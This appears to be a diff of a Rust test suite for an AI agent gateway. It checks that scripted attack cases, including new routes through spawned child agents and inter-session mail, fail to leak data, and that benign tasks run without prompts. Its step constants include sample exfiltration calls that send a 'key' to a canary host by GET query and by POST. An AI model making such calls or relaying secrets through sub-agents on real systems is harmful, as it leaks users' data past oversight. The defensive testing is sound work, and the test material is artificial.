@@ -9,12 +9,13 @@ use std::time::Duration;
 use gantry_model::testing::{Heard, KEY, Turn};
 use serde_json::{Value, json};
 
-use super::{Model, NOBODY, call, post};
+use super::{Far, Model, NOBODY, call, post};
 use crate::gateway::Up;
 use crate::run::World;
 
 mod attacks;
 mod benign;
+mod others;
 
 /// A call the model makes: the tool, and its input as JSON. `{site}`, `{canary}`, `{workspace}`, `{agent}` and `{today}`
 /// stand for what they are.
@@ -32,9 +33,25 @@ const fn case(name: &'static str, parts: &'static [&'static [Step]]) -> Case {
 
 /// Before the steps of a conversation that another session has, since a message brings it there.
 const ELSEWHERE: &str = "elsewhere";
+/// The same, of the agent's main session, which got mail.
+const MAILED: &str = "mailed";
+/// The same, of a child.
+const CHILD: &str = "child";
 /// A page that others wrote; the owner's diary.
 const PAGE: Step = ("tool__web_fetch", r#"{"url": "{site}/page"}"#);
 const DIARY: Step = ("Read", r#"{"path": "diary.txt"}"#);
+/// Others who do the next parts of the case.
+const SPAWN: Step = ("spawn_agent", r#"{"agents": [{"name": "courier", "task": "case {case} part 1"}]}"#);
+const SPAWN_TWO: Step = (
+    "spawn_agent",
+    r#"{"agents": [{"name": "one", "task": "case {case} part 1"}, {"name": "two", "task": "case {case} part 2"}]}"#,
+);
+const AFTER: Step = ("tool__agent_spawn", r#"{"template": "{agent}", "message": "case {case} part 1"}"#);
+const MAIL: Step = (
+    "tool__agent_send",
+    r#"{"agentId": "{agent}", "targetAgentId": "{agent}", "message": "case {case} part 1"}"#,
+);
+const IN_CHILD: Step = (CHILD, "{}");
 /// Ways out.
 const GET: Step = ("tool__web_fetch", r#"{"url": "{canary}/?q=the+key+is+under+the+mat"}"#);
 const POST: Step = ("http_request", r#"{"url": "{canary}/post", "method": "POST", "body": "the key"}"#);
@@ -93,11 +110,17 @@ struct Stage {
     model: Model,
     site: Site,
     canary: Site,
+    far: Option<Far>,
 }
 
 impl Stage {
     /// `agent` is what all agents are configured with.
     fn new(cases: &'static [Case], agent: &str) -> Stage {
+        Stage::with(cases, agent, |_| {})
+    }
+
+    /// `prepare` is called before the gateway starts.
+    fn with(cases: &'static [Case], agent: &str, prepare: impl FnOnce(&World)) -> Stage {
         let (site, canary) = (Site::start(), Site::start());
         let places = Arc::new(Mutex::new(Vec::<(&'static str, String)>::new()));
         let model = Model::deciding({
@@ -130,8 +153,9 @@ impl Stage {
             ("{workspace}", world.workspace().display().to_string()),
             ("{today}", jiff::Zoned::now().date().to_string()),
         ];
+        prepare(&world);
         let up = Up::start(&world);
-        Stage { world, up, model, site, canary }
+        Stage { world, up, model, site, canary, far: None }
     }
 
     /// Plays one conversation of a case; every question is answered with no. Gives the questions.
@@ -168,9 +192,32 @@ impl Stage {
 
     /// What came of the calls of a conversation, as text.
     fn results(&self, number: usize, session: &str) -> Vec<Value> {
-        let history = self.up.get(&format!("/v1/sessions/agent:c{number}:{session}/events")).json();
+        self.results_of(&format!("agent:c{number}:{session}"))
+    }
+
+    fn results_of(&self, key: &str) -> Vec<Value> {
+        let history = self.up.get(&format!("/v1/sessions/{key}/events")).json();
         let events = history["events"].as_array().unwrap().iter();
         events.filter(|event| event["kind"] == "call_ended").cloned().collect()
+    }
+
+    /// What came of the calls of all children of a case.
+    fn results_of_children(&self, number: usize) -> Vec<Value> {
+        let listed = self.up.get("/v1/sessions?limit=1000").json();
+        let sessions = listed["sessions"].as_array().unwrap().iter();
+        let theirs = sessions
+            .filter(|session| session["agent"] == format!("c{number}") && session["parent"].is_string());
+        theirs.flat_map(|session| self.results_of(session["sessionKey"].as_str().unwrap())).collect()
+    }
+
+    /// What the mail to an agent came to: its calls, or what it asks before them.
+    fn mailed(&self, number: usize) -> (Vec<Value>, Vec<Value>) {
+        crate::gateway::eventually("the mail is taken up", Duration::from_secs(20), || {
+            let status = self.up.get(&format!("/v1/sessions/agent:c{number}:main")).json();
+            let is_over = status["running"].is_null() && !self.results(number, "main").is_empty();
+            is_over || status["questions"].as_array().is_some_and(|open| !open.is_empty())
+        });
+        (self.questions(number, "main"), self.results(number, "main"))
     }
 }
 
@@ -185,7 +232,7 @@ fn next_step(cases: &'static [Case], places: &[(&'static str, String)], heard: &
     });
     let (number, part) = said.expect("the message names a case");
     let done = messages.iter().filter(|message| message["role"] == "tool").count();
-    let mut steps = cases[number].parts[part].iter().filter(|(tool, _)| *tool != ELSEWHERE);
+    let mut steps = cases[number].parts[part].iter().filter(|(tool, _)| !is_elsewhere(tool));
     match steps.nth(done) {
         Some(("say", text)) => Turn::text(filled(text, number, places)),
         Some((tool, input)) => {
@@ -195,6 +242,10 @@ fn next_step(cases: &'static [Case], places: &[(&'static str, String)], heard: &
         }
         None => Turn::text("done"),
     }
+}
+
+fn is_elsewhere(tool: &str) -> bool {
+    [ELSEWHERE, MAILED, CHILD].contains(&tool)
 }
 
 fn filled(text: &str, number: usize, places: &[(&'static str, String)]) -> String {
@@ -223,17 +274,37 @@ fn the_ways_out_are_real() {
 fn no_attack_gets_out(autonomy: &str) {
     let stage = Stage::new(attacks::ATTACKS, &format!("autonomy = \"{autonomy}\""));
     assert!(attacks::ATTACKS.len() >= 40, "{}", attacks::ATTACKS.len());
-    for (number, attack) in attacks::ATTACKS.iter().enumerate() {
-        let (mut questions, mut denied) = (Vec::new(), String::new());
-        for part in 0..attack.parts.len() {
-            if attack.parts[part].first().is_some_and(|(tool, _)| *tool == ELSEWHERE) {
-                questions.extend(stage.questions(number, "helper"));
-                denied.push_str(&json!(stage.results(number, "helper")).to_string());
-                continue;
+    attacks_are_stopped(&stage, attacks::ATTACKS, autonomy);
+    assert!(!stage.site.take().is_empty());
+}
+
+/// Plays all conversations of a case; gives the questions, and what came of the calls.
+fn played(stage: &Stage, case: &Case, number: usize) -> (Vec<Value>, String) {
+    let (mut questions, mut came) = (Vec::new(), String::new());
+    for (part, steps) in case.parts.iter().enumerate() {
+        let (asked, results) = match steps.first() {
+            Some((ELSEWHERE, _)) => (stage.questions(number, "helper"), stage.results(number, "helper")),
+            Some((MAILED, _)) => stage.mailed(number),
+            // What children ask was asked of their parent.
+            Some((CHILD, _)) => (Vec::new(), stage.results_of_children(number)),
+            _ => {
+                let asked = stage.play(number, part);
+                (asked, stage.results(number, &format!("part-{part}")))
             }
-            questions.extend(stage.play(number, part));
-            denied.push_str(&json!(stage.results(number, &format!("part-{part}"))).to_string());
+        };
+        questions.extend(asked);
+        came.push_str(&json!(results).to_string());
+    }
+    (questions, came)
+}
+
+fn attacks_are_stopped(stage: &Stage, attacks: &[Case], autonomy: &str) {
+    for (number, attack) in attacks.iter().enumerate() {
+        if stage.far.is_some() {
+            // What an attack before this one left there is not what stops it.
+            post(&stage.up, &format!("agent:c{number}:main"), &json!({"message": "/trust node:far"}), &[]);
         }
+        let (questions, denied) = played(stage, attack, number);
         let heard = stage.canary.take();
         let told = format!("{} ({autonomy}): {denied}", attack.name);
         assert!(heard.is_empty(), "{told} reached the canary: {heard:?}");
@@ -245,7 +316,6 @@ fn no_attack_gets_out(autonomy: &str) {
         assert!(denied.contains("flow-labels") || flow > 0, "{told} was not stopped by its labels");
         assert_eq!(flow > 0, autonomy == "guided", "{told}: {questions:?}");
     }
-    assert!(!stage.site.take().is_empty());
     stage.model.check();
 }
 
@@ -279,8 +349,18 @@ fn honest_work_is_not_asked_about() {
     let agent = "autonomy = \"guided\"\nisolation = { networkPolicy = \"allow-list\", allowedHosts = [\"127.0.0.1\"] }";
     let stage = Stage::new(benign::TASKS, agent);
     assert!(benign::TASKS.len() >= 40, "{}", benign::TASKS.len());
-    for (number, task) in benign::TASKS.iter().enumerate() {
+    honest_work_is_done(&stage, benign::TASKS);
+    assert!(stage.world.workspace().join("c0").is_dir());
+}
+
+fn honest_work_is_done(stage: &Stage, tasks: &[Case]) {
+    for (number, task) in tasks.iter().enumerate() {
         for (part, steps) in task.parts.iter().enumerate() {
+            if steps.first().is_some_and(|(tool, _)| is_elsewhere(tool)) {
+                let theirs = json!(stage.results_of_children(number)).to_string();
+                assert!(!theirs.contains("\"is_error\":true"), "{}: {theirs}", task.name);
+                continue;
+            }
             let questions = stage.play(number, part);
             assert_eq!(questions, [json!(null); 0], "{}", task.name);
             let results = stage.results(number, &format!("part-{part}"));
@@ -292,6 +372,5 @@ fn honest_work_is_not_asked_about() {
             }
         }
     }
-    assert!(stage.world.workspace().join("c0").is_dir());
     stage.model.check();
 }
